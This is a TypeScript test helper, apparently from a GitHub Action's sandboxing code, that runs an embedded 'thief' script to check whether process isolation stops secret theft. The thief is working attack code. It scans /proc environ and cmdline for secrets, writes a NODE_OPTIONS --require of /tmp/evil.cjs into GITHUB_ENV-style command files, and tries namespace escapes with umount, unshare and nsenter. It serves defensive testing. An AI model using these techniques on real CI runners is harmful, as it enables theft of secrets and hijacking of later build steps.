import { createProcesses } from '../../src/host/processes.ts'

// node isolation-child.ts ISOLATED FOLDER: starts the thief below, as the action would with secrets in
// the environment that it was started with, and prints what the thief printed.
const [isolated, folder = '/'] = process.argv.slice(2)

const thief = `
const fs = require('fs')
const { spawnSync } = require('child_process')
const loot = []
const look = (where, text) => { if (text.includes('s3cr' + '3t')) loot.push(where) }
const read = (path) => { try { return fs.readFileSync(path, 'latin1') } catch (error) { return '' } }
look('env', JSON.stringify(process.env))
look('argv', process.argv.join(' '))
function processes() {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))) {
    const environ = read('/proc/' + pid + '/environ')
    look('environ', environ)
    look('cmdline', read('/proc/' + pid + '/cmdline'))
    for (const entry of environ.split('\\0')) {
      const [name, path] = entry.split('=')
      if (!/^GITHUB_(ENV|PATH|OUTPUT)$/.test(name)) continue
      fs.appendFileSync(path, 'NODE_OPTIONS=--require=/tmp/evil.cjs')
      loot.push('command file')
    }
  }
}
processes()
// Never outside of a table of its own: this takes the machine's away.
if (process.argv[1] === 'dig' && process.pid < 10) dig()
function dig() {
  // The table from before may lie below a new one.
  spawnSync('umount', ['/proc'])
  spawnSync('umount', ['-l', '/proc'])
  processes()
  spawnSync('unshare', ['--user', '--map-root-user', '--mount', 'umount', '/proc'])
  const nested = spawnSync('unshare', ['--user', '--map-root-user', '--mount', 'sh', '-c', 'umount /proc; cat /proc/*/environ'])
  look('nested', String(nested.stdout))
  const entered = spawnSync('nsenter', ['--target', '1', '--pid', '--mount', 'sh', '-c', 'cat /proc/*/environ'])
  look('entered', String(entered.stdout))
}
console.log(JSON.stringify([...new Set(loot)].sort()))
`

const processes = createProcesses({ PATH: process.env['PATH'] })
const outcome = await processes.run({
  argv: [process.execPath, '-e', thief, isolated === 'true' ? 'dig' : 'look'],
  cwd: folder,
  environment: { PATH: '/usr/sbin:/usr/bin:/sbin:/bin' },
  timeoutSeconds: 20,
  outputLimitBytes: 1_000_000,
  isolated: isolated === 'true',
})
process.stdout.write(outcome.stdout === '' ? outcome.stderr : outcome.stdout)
